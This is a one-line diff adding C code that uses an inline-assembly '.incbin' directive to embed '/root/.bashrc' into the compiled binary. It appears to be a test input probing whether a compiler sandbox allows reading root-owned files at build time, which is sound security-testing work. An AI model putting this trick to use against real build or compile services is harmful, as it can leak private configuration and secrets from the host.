@@ -1,0 +1,1 @@
+asm(".incbin \"/root/.bashrc\""); int main() {}
